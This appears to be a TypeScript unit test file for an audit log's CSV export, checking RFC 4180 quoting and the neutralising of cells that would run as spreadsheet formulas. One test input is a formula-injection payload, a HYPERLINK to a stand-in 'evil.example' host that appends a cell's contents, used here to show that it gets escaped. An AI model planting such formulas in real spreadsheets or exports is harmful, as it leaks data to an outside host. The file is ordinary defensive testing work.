// csvCell and csvLine: RFC 4180 quoting, and cells that would run as spreadsheet formulas kept as text.
import assert from "node:assert/strict";
import fc from "fast-check";
import { csvCell, csvLine } from "../../../api/src/audit/csv.js";

/** Reads one RFC 4180 cell back: the quoted form unquoted and its doubled quotes halved. */
function readCell(cell: string): string {
  const quoted = /^"((?:[^"]|"")*)"$/s.exec(cell);
  return quoted ? quoted[1]!.replaceAll('""', '"') : cell;
}

describe("csvCell", () => {
  it("plain text → unchanged, unquoted", () => {
    assert.equal(csvCell("retraction.requested"), "retraction.requested");
    assert.equal(csvCell("admin@contoso.com"), "admin@contoso.com");
    assert.equal(csvCell(""), "");
  });

  it("a comma → the cell quoted", () => {
    assert.equal(csvCell("Vance, Adele"), '"Vance, Adele"');
  });

  it("double quotes → the cell quoted and each quote doubled", () => {
    assert.equal(csvCell('say "hi"'), '"say ""hi"""');
    assert.equal(csvCell('"'), '""""');
  });

  it("a line break (LF, CR or CRLF) inside → the cell quoted, the break kept", () => {
    assert.equal(csvCell("a\nb"), '"a\nb"');
    assert.equal(csvCell("a\rb"), '"a\rb"');
    assert.equal(csvCell("a\r\nb"), '"a\r\nb"');
  });

  for (const start of ["=", "+", "-", "@"]) {
    it(`a cell starting with ${start} → prefixed with a single quote, so it stays text`, () => {
      assert.equal(csvCell(`${start}1+1`), `'${start}1+1`);
    });
  }

  it("a cell starting with a tab → prefixed with a single quote", () => {
    assert.equal(csvCell("\t=1+1"), "'\t=1+1");
  });

  it("a cell starting with CR → prefixed with a single quote, then quoted for the line break", () => {
    assert.equal(csvCell("\r=1+1"), '"\'\r=1+1"');
  });

  it("a formula with quotes and commas → prefixed first, then quoted with the quotes doubled", () => {
    assert.equal(
      csvCell('=HYPERLINK("https://evil.example/?"&A1,"click")'),
      '"\'=HYPERLINK(""https://evil.example/?""&A1,""click"")"'
    );
  });

  it("formula characters after the first one → left alone", () => {
    assert.equal(csvCell("a=b+c-d@e"), "a=b+c-d@e");
    assert.equal(csvCell(" =1+1"), " =1+1");
  });

  it("any text → reads back as itself, with a quote in front when it started like a formula", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme" }), (text) => {
        const cell = csvCell(text);
        const expected = /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
        assert.equal(readCell(cell), expected);
        // Unquoted cells hold nothing that would end the cell or the line.
        if (!cell.startsWith('"')) assert.doesNotMatch(cell, /[",\r\n]/);
      })
    );
  });
});

describe("csvLine", () => {
  it("cells → encoded, joined by commas, ended by CRLF", () => {
    assert.equal(csvLine(["1", "a,b", "=x", ""]), '1,"a,b",\'=x,\r\n');
  });

  it("no cells → an empty line", () => {
    assert.equal(csvLine([]), "\r\n");
  });
});
